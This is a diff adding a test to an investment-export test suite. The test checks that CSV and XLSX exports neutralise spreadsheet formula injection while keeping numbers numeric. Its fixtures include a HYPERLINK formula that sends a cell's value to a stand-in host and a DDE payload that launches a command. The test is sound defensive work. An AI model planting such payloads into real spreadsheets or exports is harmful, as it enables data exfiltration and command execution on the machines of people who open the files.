@@ -1,6 +1,9 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { loadDemoData } from '../../seeds/demo/load-demo.js';
+import { toGlobalId } from '../../server/src/graphql/global-id.js';
+import { signedIn } from '../helpers/access.js';
+import { Factory } from '../helpers/factories.js';
 import { createTestServer, DIALECTS, type TestServer } from '../helpers/server.js';
 
 describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
@@ -62,6 +65,58 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
     });
     expect(ids).toEqual(await apiIds(filter));
     expect(String(workbook.worksheets[1].getCell('A1').value)).toContain('LOGISTICS');
+  });
+
+  it('neutralises text that a spreadsheet would run as a formula, in CSV and XLSX, and keeps numbers numbers', async () => {
+    const officer = (await signedIn(server, 'OFFICER', '@Officer')).token;
+    const ok = async (query: string, variables: Record<string, unknown>) => {
+      const res = await server.gql(query, variables, officer);
+      expect(res.errors, res.body).toBeUndefined();
+      return res.data;
+    };
+    const park = (await ok(`query($s: String!) { park(slug: $s) { id } }`, { s: 'sco-energy-valley' })).park.id;
+    const names = ['=HYPERLINK("http://x.example/"&A2,"Click me")', "+cmd|' /C calc'!A0"];
+    const ids: string[] = [];
+    for (const name of names) {
+      const org = (await ok(`mutation($i: CreateOrganizationInput!) { createOrganization(input: $i) { id } }`, { i: { nameZh: name, nameEn: name, kind: 'COMPANY', country: 'KZ' } })).createOrganization.id;
+      const inv = await ok(`mutation($i: CreateInvestmentInput!) { createInvestment(input: $i) { id } }`, {
+        i: { organization: org, park, sector: 'LOGISTICS', stage: 'SIGNED', amount: { amount: '1500.25', currency: 'USD' }, announcedOn: '2025-03-01', expectedJobs: 40 },
+      });
+      ids.push(inv.createInvestment.id);
+    }
+    // A negative amount (written past the API, which refuses one) stays a number; a name starting with "-" does not.
+    const factory = new Factory(server.em());
+    const negative = factory.investment(factory.park().entity, { organization: factory.organization({ nameEn: '-2+3', nameZh: '-2+3' }), amountMinor: -150_025n, amountUsdMinor: -150_025n } as never);
+    await factory.flush();
+    ids.push(toGlobalId('Investment', negative.id));
+    const params = { filter: JSON.stringify({ id: { in: ids } }) };
+
+    const csv = await fetch(url('csv', params));
+    expect(csv.status).toBe(200);
+    const text = (await csv.text()).replace(/^\uFEFF/, '');
+    const lines = text.trim().split(/\r?\n/);
+    expect(lines).toHaveLength(4);
+    // csv-stringify quotes fields holding quotes; the cell's text starts with the single quote either way.
+    expect(lines[1]).toContain(`"'=HYPERLINK(""http://x.example/""&A2,""Click me"")"`);
+    expect(lines[1]).toContain(`,1500.25,USD,1500.25,2025-03-01,40,RECORDED,'@Officer,`);
+    expect(lines[2]).toContain(`,'+cmd|' /C calc'!A0,`);
+    expect(lines[3]).toContain(`,'-2+3,`);
+    expect(lines[3]).toContain(`,-1500.25,USD,-1500.25,`);
+    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=+@\t\r]/);
+
+    const xlsx = await fetch(url('xlsx', params));
+    expect(xlsx.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
+    const sheet = workbook.worksheets[0];
+    const rows = [2, 3, 4].map((n) => sheet.getRow(n));
+    expect(rows.map((r) => r.getCell(2).value)).toEqual([`'${names[0]}`, `'${names[1]}`, "'-2+3"]);
+    expect(rows.map((r) => r.getCell(2).type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+    expect(rows.map((r) => r.getCell(7).value)).toEqual([1500.25, 1500.25, -1500.25]);
+    expect(rows.map((r) => r.getCell(9).type)).toEqual([ExcelJS.ValueType.Number, ExcelJS.ValueType.Number, ExcelJS.ValueType.Number]);
+    expect(rows[0].getCell(11).value).toBe(40);
+    expect(rows[0].getCell(13).value).toBe("'@Officer");
+    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
   });
 
   it('refuses a bad filter or period with a clear 400 before any row', async () => {
